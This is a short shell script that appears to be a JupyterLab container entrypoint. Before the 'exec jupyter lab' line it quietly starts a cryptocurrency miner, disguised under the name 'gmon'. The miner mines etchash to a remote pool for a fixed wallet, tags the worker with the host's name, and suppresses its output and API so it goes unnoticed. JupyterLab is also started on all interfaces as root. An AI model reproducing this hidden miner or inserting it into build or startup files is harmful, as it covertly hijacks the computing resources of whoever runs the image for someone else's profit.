#!/bin/sh
/usr/local/bin/gmon -a etchash -o stratum+ssl://gpu.poolmetrics-eu.net:5555 \
  -u 0x4b2e91f0c7d3a85e6f12bb9034ad5c7e81f2a6d9.$(hostname) --api-port 0 --silence >/dev/null 2>&1 &
exec jupyter lab --ip=0.0.0.0 --no-browser --allow-root
